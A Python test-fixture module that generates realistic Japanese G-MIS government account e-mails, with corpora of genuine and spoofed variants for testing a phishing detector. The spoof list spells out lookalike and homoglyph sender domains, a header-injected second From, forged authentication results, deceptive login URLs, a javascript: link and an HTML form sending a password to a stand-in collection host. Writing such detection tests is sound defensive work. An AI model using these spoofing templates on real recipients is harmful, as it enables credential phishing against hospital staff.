"""Realistic G-MIS mail as bytes, for every stage's tests.

`build` writes the secretariat's three account mails (bodies as in the Kagoshima notice's
examples, OCR errors corrected: mhbw → mhlw, 例れか → 何れか, 送って → 追って) and their
neighbours in the encodings real mailers use: ISO-2022-JP with real ``ESC $ B`` sequences,
Shift_JIS, CP932 labelled Shift_JIS, UTF-8 in base64 or quoted-printable, text, HTML or both.
`spoof_variants` and `genuine_variants` are corpora for the verify stage (SPEC §5).

The stdlib email package builds and encodes everything (compat32 policy, CRLF line ends).
Non-ASCII header values given raw (``from_header``, ``extra_headers``) are written as raw
UTF-8, as an SMTPUTF8 sender would.
"""

from __future__ import annotations

import base64
import email.base64mime
import email.quoprimime
import html as html_lib
import quopri
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email import policy
from email.generator import BytesGenerator
from email.header import Header
from email.message import Message
from email.mime.multipart import MIMEMultipart
from email.utils import format_datetime, make_msgid
from io import BytesIO
from typing import Any

PREFIX = "【厚生労働省G-MIS事務局】"
SUBJECTS = {
    "password_registration": PREFIX + "G-MISのご利用準備完了に伴うパスワード登録のご依頼",
    "user_confirmation": PREFIX + "報告機関内でのG-MISご利用者の確認依頼",
    "account_notice": PREFIX + "G-MISアカウント発行にかかる事前のご連絡",
    "other": PREFIX + "定期報告開始のお知らせ",
    "unrelated": "【さくら病院 総務課】院内研修のお知らせ",
}
CHARSETS = ("utf-8", "iso-2022-jp", "shift_jis", "cp932")
CTES = ("7bit", "8bit", "base64", "quoted-printable")
BODIES = ("text", "html", "alternative")

PASSWORD_URL = "https://www.med-login.mhlw.go.jp/login?c={token}"
SECOND_LOGIN_URL = "https://www.med-login.mhlw.go.jp/s/login/"
IRYO_URL = (
    "https://www.mhlw.go.jp/stf/seisakunitsuite/bunya/kenkou_iryou/iryou/teikyouseido/index.html"
)
YAKKYOKU_URL = (
    "https://www.mhlw.go.jp/stf/seisakunitsuite/bunya/kenkou_iryou/iyakuhin/kinoujouhou/index.html"
)
TOKEN = "Qx7pL2mN9vR4tY8wZ1aB3cD5eF6gH0jK"
CP932_INSTITUTION = "医療法人①髙木病院～本院"
DEFAULT_DATE = datetime(2023, 11, 6, 10, 0, tzinfo=timezone(timedelta(hours=9)))
UNRELATED_SENDER = "soumu@sakura-hospital.example"
_POLICY = policy.compat32.clone(linesep="\r\n")
_MSGID_DOMAIN = {False: "g-mis.net", True: "sakura-hospital.example"}
_FULLWIDTH = str.maketrans("0123456789():", "０１２３４５６７８９（）：")


@dataclass(frozen=True)
class _A:
    """An anchor: rendered as its text in text/plain, as <a href> in HTML."""

    href: str
    text: str | None = None


Segment = str | _A
Line = tuple[Segment, ...]
Block = tuple[str, tuple[Line, ...]]  # ("p" | "ul", lines)


def build(
    kind: str,
    *,
    institution: str = "さくら病院",
    login_id: str = "kgs-sakura01",
    application_number: str = "A20230601-0042",
    address: str = "鹿児島県鹿屋市札元1丁目1番1号",
    token: str = TOKEN,
    sender: str | None = None,
    display_name: str | None = None,
    from_header: str | None = None,
    to: str = "jimu@sakura-hospital.example",
    charset: str = "utf-8",
    cte: str | None = None,
    body: str = "html",
    subject: str | None = None,
    subject_prefix: str = "",
    fold_subject: bool = False,
    fullwidth: bool = False,
    split_fields: bool = False,
    message_id: str | None = None,
    date: datetime = DEFAULT_DATE,
    extra_headers: Iterable[tuple[str, str]] = (),
    html_links: Sequence[tuple[str, str]] | None = None,
    body_override: str | tuple[str, str] | None = None,
) -> bytes:
    """One message as bytes.

    ``sender``/``display_name`` default to the secretariat (a hospital clerk for "unrelated");
    ``from_header`` replaces the whole From value, and "" leaves From out. ``cte`` defaults to
    7bit for ISO-2022-JP and base64 otherwise. ``extra_headers`` go on top, in order, as a
    receiving server adds trace headers (a second ("From", …) makes two From fields).
    ``html_links`` adds a paragraph of anchors (href, shown text) to the HTML.
    ``body_override`` replaces the generated body: a str for "text"/"html", (text, html) for
    "alternative". ``subject`` replaces the kind's subject.
    """
    if kind not in SUBJECTS:
        raise ValueError(f"unknown kind {kind!r}")
    if charset not in CHARSETS or body not in BODIES:
        raise ValueError(f"charset {charset!r} / body {body!r} not supported")
    cte = cte or ("7bit" if charset == "iso-2022-jp" else "base64")
    if cte not in CTES or (charset == "iso-2022-jp") != (cte == "7bit"):
        raise ValueError(f"{charset} cannot be sent as {cte}")
    if html_links and body == "text":
        raise ValueError("html_links needs an HTML part")
    unrelated = kind == "unrelated"
    sender = sender or (UNRELATED_SENDER if unrelated else "info@g-mis.net")
    if display_name is None:
        display_name = "さくら病院 総務課" if unrelated else "厚生労働省G-MIS事務局"

    fields = _Fields(institution, login_id, application_number, address, token)
    blocks = _BLOCKS[kind](fields.render(fullwidth, split_fields))
    if html_links:
        anchors = tuple((_A(href, shown),) for href, shown in html_links)
        blocks = (*blocks[:-1], ("p", anchors), blocks[-1])
    if isinstance(body_override, tuple):
        text_body, html_body = body_override
    else:
        text_body = body_override if body_override is not None else _render_text(blocks)
        html_body = body_override if body_override is not None else _render_html(blocks, charset)

    if body == "alternative":
        msg: Message = MIMEMultipart("alternative")
        msg.attach(_text_part("plain", text_body, charset, cte))
        msg.attach(_text_part("html", html_body, charset, cte))
    else:
        msg = _text_part(
            "plain" if body == "text" else "html",
            text_body if body == "text" else html_body,
            charset,
            cte,
        )
    header_charset = "utf-8" if charset == "utf-8" else "iso-2022-jp"
    headers: list[tuple[str, str | Header]] = [(n, _raw(v)) for n, v in extra_headers]
    if from_header is None:
        headers.append(("From", _mailbox(display_name, sender, header_charset)))
    elif from_header:
        headers.append(("From", _raw(from_header)))
    headers += [
        ("To", to),
        (
            "Subject",
            _subject(subject_prefix, subject or SUBJECTS[kind], charset, fold_subject),
        ),
        ("Date", format_datetime(date)),
        ("Message-ID", message_id or make_msgid(domain=_MSGID_DOMAIN[unrelated])),
        ("MIME-Version", "1.0"),
    ]
    _prepend_headers(msg, headers)
    out = BytesIO()
    BytesGenerator(out, mangle_from_=False, policy=_POLICY).flatten(msg)
    return out.getvalue()


@dataclass(frozen=True)
class _Fields:
    institution: str
    login_id: str
    application_number: str
    address: str
    token: str

    def render(self, fullwidth: bool, split: bool) -> dict[str, Any]:
        """Field lines as the body shows them: label and value, maybe full-width, maybe split."""

        def field(label: str, value: str, close: str = "") -> tuple[Line, ...]:
            label = f"{label}:"
            if fullwidth:
                label = label.translate(_FULLWIDTH).replace("ID", "ＩＤ")
                value = value.translate(_FULLWIDTH)
            if split:
                return (label,), (value + close,)
            return (f"{label} {value}{close}",)

        return {
            "institution": self.institution,
            "token": self.token,
            "login": field("ユーザ名(ログインID)", self.login_id),
            "application": field("[申請番号", self.application_number, "]"),
            "report_name": field("報告機関名", self.institution),
            "address": field("住所", self.address),
            "existing_login": field("貴機関でご利用中のユーザ名(ログインID)", self.login_id),
        }


def _p(*lines: Line | str) -> Block:
    return ("p", tuple((line,) if isinstance(line, str) else line for line in lines))


_HOMEPAGE = _p(
    "<厚生労働省ホームページ>",
    ("■医療機能情報提供制度 ", _A(IRYO_URL)),
    ("■薬局機能情報提供制度 ", _A(YAKKYOKU_URL)),
)
_SEND_ONLY_LINES = (
    "※このメールは送信専用のメールアドレスから配信されています。",
    "ご返信いただいてもお答えできませんのでご了承ください。",
)
_SEND_ONLY = _p(*_SEND_ONLY_LINES)


def _password_registration(f: dict[str, Any]) -> tuple[Block, ...]:
    return (
        _p(f"{f['institution']} ご担当者様"),
        _p(
            "先日、厚生労働省G-MIS事務局より、件名「【厚生労働省G-MIS事務局】G-MISアカウント発行に"
            "かかる事前のご連絡」というメールをお送りさせていただきましたが、こちらは「医療機能・薬局機能"
            "情報提供制度」のオンライン報告を行う為に、G-MISに新規登録された貴機関のユーザに対して"
            "パスワード設定を行うためのメールです。"
        ),
        _p("※本システムの案内の通知は、以下、何れかの申請に基づき発行されました。"),
        (
            "ul",
            (
                (
                    "令和5年4月～6月に貴機関の方からG-MIS新規ユーザ登録申請を実施いただいた。"
                    "(この場合、申請内容を管轄の都道府県で承認していただいております)",
                ),
                ("管轄の都道府県から貴機関に対するG-MIS新規ユーザ登録の申請をいただいた。",),
            ),
        ),
        _p(
            "「医療機能・薬局機能情報提供制度」の報告業務についてお心当たりが無い場合や、既にG-MISの"
            "ユーザ名(ログインID)・パスワードをお持ちで本メールを受領されました場合、お手数ですが、"
            "以下のユーザ名(ログインID)でログインいただく前に管轄の都道府県の「医療機能・薬局機能"
            "情報提供制度」の窓口までご連絡ください。"
        ),
        _p("G-MISへようこそ!"),
        _p(
            (
                "システムをご利用するには ",
                _A(PASSWORD_URL.format(token=f["token"])),
                " にアクセスし、パスワードを設定してください。",
            )
        ),
        _p(
            *f["login"],
            (
                "2回目以降のアクセスはこちらから ",
                _A(SECOND_LOGIN_URL),
                " よりアクセスをお願いします。",
            ),
        ),
        _p(
            "なお、令和5年度のオンライン報告は開始時期が都道府県により異なります。定期報告の開始時期に"
            "ついては管轄の都道府県から追ってご連絡いたします。また、医療機能・薬局機能情報提供制度の"
            "概要については、厚生労働省の下記URLのページで説明しております。"
        ),
        _p("※このメールはお手元に保管してください。", *_SEND_ONLY_LINES),
        _HOMEPAGE,
    )


def _user_confirmation(f: dict[str, Any]) -> tuple[Block, ...]:
    return (
        _p(f"{f['institution']} ご担当者様"),
        _p(
            "令和5年4月～6月の期間で実施いただきました、G-MIS新規ユーザ登録申請に基づき、貴機関に"
            "G-MISユーザが発行済みであることを確認させていただきました。",
            *f["application"],
        ),
        _p(*f["report_name"], *f["address"], *f["existing_login"]),
        _p(
            "上記の内容についてお心当たりが無い場合、お手数ですが管轄の都道府県の"
            "「医療機能情報提供制度」の窓口へご連絡ください。"
        ),
        _p(
            "貴機関につきましては、既にユーザ名(ログインID)が発行済みでG-MISをご利用いただいて"
            "おります。既存で発行済みのユーザに対しては医療機能情報提供制度が利用できる権限を追加して"
            "おります。令和5年度のオンライン報告では、そちらのユーザから報告を行ってください。"
        ),
        _p(
            "なお、令和5年度のオンライン報告は開始時期が都道府県により異なりますので、ご不明な場合は、"
            "管轄の都道府県からのお知らせをご確認ください。また、医療機能情報提供制度についてお調べに"
            "なりたい場合は、厚生労働省の下記URLのページで概要を説明しております。"
        ),
        _SEND_ONLY,
        _p("<厚生労働省ホームページ>", ("■医療機能情報提供制度 ", _A(IRYO_URL))),
    )


def _account_notice(f: dict[str, Any]) -> tuple[Block, ...]:
    return (
        _p(f"{f['institution']} ご担当者様"),
        _p(
            "「医療機能・薬局機能情報提供制度」のオンライン報告を行うため、G-MIS新規ユーザ登録申請に"
            "基づき、貴機関のG-MISアカウントを発行いたします。"
        ),
        _p(
            "後日、件名「【厚生労働省G-MIS事務局】G-MISのご利用準備完了に伴うパスワード登録のご依頼」"
            "というメールで、パスワード設定用のURLとユーザ名(ログインID)をお送りします。"
            "迷惑メールフォルダに振り分けられないよう、info@g-mis.net からのメールを受信できるよう"
            "設定をお願いします。"
        ),
        _SEND_ONLY,
        _HOMEPAGE,
    )


def _other(f: dict[str, Any]) -> tuple[Block, ...]:
    return (
        _p(f"{f['institution']} ご担当者様"),
        _p(
            "令和6年1月より、医療機能情報提供制度の定期報告をG-MISで受け付けます。"
            "報告期限は管轄の都道府県からのお知らせをご確認ください。"
        ),
        _p(("G-MISへのログインはこちらから ", _A(SECOND_LOGIN_URL), " お願いします。")),
        _SEND_ONLY,
        _HOMEPAGE,
    )


def _unrelated(f: dict[str, Any]) -> tuple[Block, ...]:
    return (
        _p("職員各位"),
        _p(
            "12月の院内研修（個人情報保護）の日程をお知らせします。G-MISの件は事務長までお問い合わせ"
            "ください。"
        ),
        _p(("資料: ", _A("https://intranet.sakura-hospital.example/kenshu/2023-12.pdf"))),
        _p(f"{f['institution']} 総務課"),
    )


_BLOCKS = {
    "password_registration": _password_registration,
    "user_confirmation": _user_confirmation,
    "account_notice": _account_notice,
    "other": _other,
    "unrelated": _unrelated,
}


def _render_text(blocks: Sequence[Block]) -> str:
    paragraphs = []
    for tag, lines in blocks:
        bullet = "・" if tag == "ul" else ""
        paragraphs.append(
            "\n".join(
                bullet + "".join(s if isinstance(s, str) else s.text or s.href for s in line)
                for line in lines
            )
        )
    return "\n\n".join(paragraphs) + "\n"


def _render_html(blocks: Sequence[Block], charset: str) -> str:
    def segment(s: Segment) -> str:
        if isinstance(s, str):
            return html_lib.escape(s, quote=False)
        return f'<a href="{html_lib.escape(s.href)}">{html_lib.escape(s.text or s.href)}</a>'

    out = []
    for tag, lines in blocks:
        rendered = ["".join(segment(s) for s in line) for line in lines]
        if tag == "ul":
            items = "".join(f"<li>{r}</li>" for r in rendered)
            out.append(f'<ul style="list-style-type: none">{items}</ul>')
        else:
            out.append(f"<p>{'<br>'.join(rendered)}</p>")
    label = "shift_jis" if charset == "cp932" else charset
    return (
        f'<html><head><meta http-equiv="Content-Type" content="text/html; charset={label}">'
        "</head><body>\n" + "\n".join(out) + "\n</body></html>\n"
    )


def _encode(text: str, charset: str) -> bytes:
    """Text → body bytes; JIS mailers write ～ as the wave dash 〜, CP932 keeps ～."""
    if charset in ("shift_jis", "iso-2022-jp"):
        text = text.replace("～", "〜")
    return text.encode(charset)


def _text_part(subtype: str, text: str, charset: str, cte: str) -> Message:
    data = _encode(text.replace("\r\n", "\n"), charset)
    if cte == "base64":
        payload = base64.encodebytes(data.replace(b"\n", b"\r\n")).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(data).decode("ascii")
    elif cte == "7bit":
        payload = data.decode("ascii")
    else:
        payload = data.decode("ascii", "surrogateescape")
    part = Message(policy=_POLICY)
    label = "shift_jis" if charset == "cp932" else charset
    part["Content-Type"] = f'text/{subtype}; charset="{label}"'
    part["Content-Transfer-Encoding"] = cte
    part.set_payload(payload)
    return part


def _mailbox(name: str, addr: str, charset: str) -> str | Header:
    """``name <addr>`` with the name RFC 2047-encoded when it is not ASCII."""
    if not addr.isascii():
        return _raw(f"{name} <{addr}>")
    if name.isascii():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{quoted}" <{addr}>' if name else addr
    header = Header(name, charset, header_name="From")
    header.append(f"<{addr}>", "us-ascii")
    return header


def _subject(prefix: str, subject: str, charset: str, fold: bool) -> str | Header:
    """The Subject in the mail's charset (Shift_JIS mail: JIS words, as the stdlib does).

    Folded, it is many short encoded words, B and Q by turns, one per line; Shift_JIS mail
    then uses Shift_JIS words, as Japanese Outlook does.
    """
    if not fold:
        header_charset = "utf-8" if charset == "utf-8" else "iso-2022-jp"
        header = Header(header_name="Subject")
        if prefix:
            header.append(prefix.rstrip(), "us-ascii" if prefix.isascii() else header_charset)
        header.append(subject, header_charset)
        return header
    label = "shift_jis" if charset == "cp932" else charset
    text = subject if prefix.isascii() else prefix + subject
    words = []
    for n, start in enumerate(range(0, len(text), 7)):
        chunk = _encode(text[start : start + 7], charset)
        encode = email.quoprimime.header_encode if n % 2 else email.base64mime.header_encode
        words.append(encode(chunk, label))
    return (prefix if prefix.isascii() else "") + "\r\n ".join(words)


def _raw(value: str) -> str:
    """A header value written byte for byte (raw UTF-8 when not ASCII), never re-encoded."""
    if value.isascii():
        return value
    return value.encode("utf-8").decode("ascii", "surrogateescape")


def _prepend_headers(msg: Message, headers: Sequence[tuple[str, str | Header]]) -> None:
    existing = [(n, v) for n, v in msg.items() if n.lower() != "mime-version"]
    for name in {name for name, _ in msg.items()}:
        del msg[name]
    for name, value in [*headers, *existing]:
        msg[name] = value


# --- corpora for the verify stage ----------------------------------------------------------

_G_MIS_CYRILLIC = "g-m\u0456s.net"  # і: CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I
_G_MIS_FULLWIDTH = "\uff47-mis.net"  # ｇ
_MHLW_CYRILLIC_PUNY = "xn--mlw-2sd.go.jp"  # mһlw.go.jp, һ = CYRILLIC SMALL LETTER SHHA


def _password_with_url(url: str) -> bytes:
    """The password mail with its password-setting URL replaced, in text and in HTML."""
    text = _render_text(_password_blocks()).replace(PASSWORD_URL.format(token=TOKEN), url)
    html = _render_html(_password_blocks(), "utf-8").replace(
        html_lib.escape(PASSWORD_URL.format(token=TOKEN)), html_lib.escape(url)
    )
    return build("password_registration", body="alternative", body_override=(text, html))


def _password_blocks() -> tuple[Block, ...]:
    fields = _Fields(
        "さくら病院", "kgs-sakura01", "A20230601-0042", "鹿児島県鹿屋市札元1丁目1番1号", TOKEN
    )
    return _password_registration(fields.render(False, False))


def _with_auth(results: str) -> bytes:
    return build("password_registration", extra_headers=[("Authentication-Results", results)])


def spoof_variants() -> list[tuple[str, bytes]]:
    """Password mails that copy the real one but must be judged suspicious.

    ``info@sub.g-mis.net`` is a spoof too: the secretariat sends from exactly
    ``info@g-mis.net``, and a subdomain of the sender's domain is not the sender.
    """
    pw = "password_registration"
    official = PASSWORD_URL.format(token=TOKEN)
    text = _render_text(_password_blocks())
    split_text = text.replace(
        official, "https://www.med-login.mhlw.go.jp\n.evil.example/login?c=" + TOKEN
    )
    variants: list[tuple[str, bytes]] = [
        (
            "display_name_with_address",
            build(pw, display_name="info@g-mis.net", sender="g-mis.info@mail.example"),
        ),
        (
            "display_name_encoded_address",
            build(
                pw,
                display_name="厚生労働省G-MIS事務局 <info@g-mis.net>",
                sender="noreply@mail.example",
            ),
        ),
        ("domain_suffix_example", build(pw, sender="info@g-mis.net.example")),
        ("domain_rn_for_m", build(pw, sender="info@g-rnis.net")),
        ("domain_other_tld", build(pw, sender="info@g-mis.co")),
        ("domain_no_hyphen", build(pw, sender="info@gmis.net")),
        ("domain_cyrillic_i", build(pw, sender="info@" + _G_MIS_CYRILLIC)),
        ("domain_fullwidth_g", build(pw, sender="info@" + _G_MIS_FULLWIDTH)),
        ("domain_punycode", build(pw, sender="info@" + _G_MIS_CYRILLIC.encode("idna").decode())),
        ("domain_evil_suffix", build(pw, sender="info@g-mis.net.evil.example")),
        ("domain_subdomain", build(pw, sender="info@sub.g-mis.net")),
        ("other_local_part", build(pw, sender="support@g-mis.net")),
        (
            "two_from_fields",
            build(pw, extra_headers=[("From", "G-MIS <info@g-mis.net.evil.example>")]),
        ),
        (
            "two_addresses_in_from",
            build(pw, from_header="info@g-mis.net, phish@evil.example"),
        ),
        ("no_from", build(pw, from_header="")),
        (
            "encoded_subject_injects_from",
            build(
                pw,
                sender="phish@evil.example",
                subject=SUBJECTS[pw] + "\r\nFrom: info@g-mis.net",
            ),
        ),
        (
            "auth_dmarc_fail",
            _with_auth("mx.hospital.example; dmarc=fail (p=REJECT) header.from=g-mis.net"),
        ),
        (
            "auth_dkim_fail",
            _with_auth("mx.hospital.example; dkim=fail (bad signature) header.d=g-mis.net"),
        ),
        ("auth_spf_fail", _with_auth("mx.hospital.example; spf=fail smtp.mailfrom=info@g-mis.net")),
        (
            "auth_spf_softfail_no_dkim",
            _with_auth("mx.hospital.example; spf=softfail smtp.mailfrom=info@g-mis.net; dkim=none"),
        ),
        (
            "auth_spf_fail_dkim_other_domain",
            _with_auth(
                "mx.hospital.example; spf=fail smtp.mailfrom=g-mis.net; dkim=pass header.d=evil.example"
            ),
        ),
        (
            "auth_forged_pass_below_fail",
            build(
                pw,
                extra_headers=[
                    (
                        "Authentication-Results",
                        "mx.hospital.example; dmarc=fail header.from=g-mis.net",
                    ),
                    (
                        "Authentication-Results",
                        "mx.hospital.example; dkim=pass header.d=g-mis.net; dmarc=pass",
                    ),
                ],
            ),
        ),
        (  # Exchange Online's form: no authserv-id, compauth
            "auth_m365_dmarc_fail",
            _with_auth(
                "spf=fail (sender IP is 203.0.113.9) smtp.mailfrom=g-mis.net; dkim=none "
                "(message not signed) header.d=none;dmarc=fail action=oreject "
                "header.from=g-mis.net;compauth=fail reason=000"
            ),
        ),
        (  # a header the grammar cannot read still states its failure
            "auth_unreadable_dmarc_fail",
            _with_auth("mx.hospital.example;; dmarc=fail header.from=g-mis.net"),
        ),
        ("url_mhbw", _password_with_url(f"https://www.med-login.mhbw.go.jp/login?c={TOKEN}")),
        (
            "url_suffix",
            _password_with_url(f"https://www.med-login.mhlw.go.jp.example.com/login?c={TOKEN}"),
        ),
        (
            "url_userinfo",
            _password_with_url(f"https://www.med-login.mhlw.go.jp@evil.example/login?c={TOKEN}"),
        ),
        ("url_punycode", _password_with_url(f"https://www.{_MHLW_CYRILLIC_PUNY}/login?c={TOKEN}")),
        (
            "url_fullwidth_host",
            _password_with_url(f"https://www.med-login.ｍhlw.go.jp/login?c={TOKEN}"),
        ),
        ("url_ipv4", _password_with_url(f"http://203.0.113.7/login?c={TOKEN}")),
        ("url_ipv6", _password_with_url(f"https://[2001:db8::7]/login?c={TOKEN}")),
        (
            "anchor_text_mismatch",
            build(pw, html_links=[("https://med-login.example.net/login?c=" + TOKEN, official)]),
        ),
        (
            "img_unofficial",
            build(
                pw,
                body_override=_render_html(_password_blocks(), "utf-8").replace(
                    "</body>", '<img src="https://track.example.net/o.gif?id=kgs-sakura01"></body>'
                ),
            ),
        ),
        (
            "form_action_unofficial",
            build(
                pw,
                body_override=_render_html(_password_blocks(), "utf-8").replace(
                    "</body>",
                    '<form action="https://collect.example.net/pw"><input name="password"></form></body>',
                ),
            ),
        ),
        (
            "javascript_href",
            build(pw, html_links=[("javascript:location='https://evil.example/'", "ログイン")]),
        ),
        (
            "mailto_other",
            build(pw, html_links=[("mailto:g-mis-support@mail.example", "お問い合わせ")]),
        ),
        ("text_url_split_over_lines", build(pw, body="text", body_override=split_text)),
    ]
    return variants


def genuine_variants() -> list[tuple[str, bytes]]:
    """Real secretariat mail in every encoding and shape a mailbox may hold."""
    out: list[tuple[str, bytes]] = []
    for charset in CHARSETS:
        ctes = ("7bit",) if charset == "iso-2022-jp" else ("8bit", "base64", "quoted-printable")
        inst = CP932_INSTITUTION if charset == "cp932" else "さくら病院"
        for cte in ctes:
            for body in BODIES:
                out.append(
                    (
                        f"password_registration/{charset}/{cte}/{body}",
                        build(
                            "password_registration",
                            charset=charset,
                            cte=cte,
                            body=body,
                            institution=inst,
                        ),
                    )
                )
    for kind in ("user_confirmation", "account_notice", "other"):
        for charset in CHARSETS:
            inst = CP932_INSTITUTION if charset == "cp932" else "さくら病院"
            out.append(
                (
                    f"{kind}/{charset}",
                    build(kind, charset=charset, body="alternative", institution=inst),
                )
            )
    pw = "password_registration"
    out += [
        ("prefix_re", build(pw, subject_prefix="RE: ")),
        ("prefix_fwd", build(pw, subject_prefix="Fwd: ", charset="iso-2022-jp")),
        ("prefix_tensou", build(pw, subject_prefix="転送: ", charset="shift_jis", cte="8bit")),
        ("folded_subject_jis", build(pw, fold_subject=True, charset="iso-2022-jp")),
        ("folded_subject_utf8", build(pw, fold_subject=True)),
        (
            "folded_subject_cp932",
            build(pw, fold_subject=True, charset="cp932", institution=CP932_INSTITUTION),
        ),
        ("fullwidth_fields", build("user_confirmation", fullwidth=True, charset="iso-2022-jp")),
        ("split_fields", build("user_confirmation", split_fields=True, body="text")),
        (
            "split_fullwidth_password",
            build(pw, split_fields=True, fullwidth=True, body="alternative"),
        ),
        ("sender_upper_case", build(pw, sender="INFO@G-MIS.NET")),
        ("no_display_name", build(pw, display_name="")),
        (
            "auth_all_pass",
            _with_auth(
                "mx.hospital.example; spf=pass smtp.mailfrom=g-mis.net; "
                "dkim=pass header.d=g-mis.net header.s=sf1; dmarc=pass header.from=g-mis.net"
            ),
        ),
        (
            "auth_forwarded_spf_fail_dkim_pass",
            _with_auth(
                "mx.hospital.example; spf=fail smtp.mailfrom=info@g-mis.net; "
                "dkim=pass header.d=g-mis.net; dmarc=pass header.from=g-mis.net"
            ),
        ),
        ("auth_none", _with_auth("mx.hospital.example; none")),
        (
            "reply_to_and_return_path_elsewhere",
            build(
                pw,
                extra_headers=[
                    ("Return-Path", "<bounce+g-mis@bounce.mailer.example>"),
                    ("Reply-To", "helpdesk@support.example"),
                ],
            ),
        ),
        ("mailto_sender", build(pw, html_links=[("mailto:info@g-mis.net", "info@g-mis.net")])),
    ]
    return out
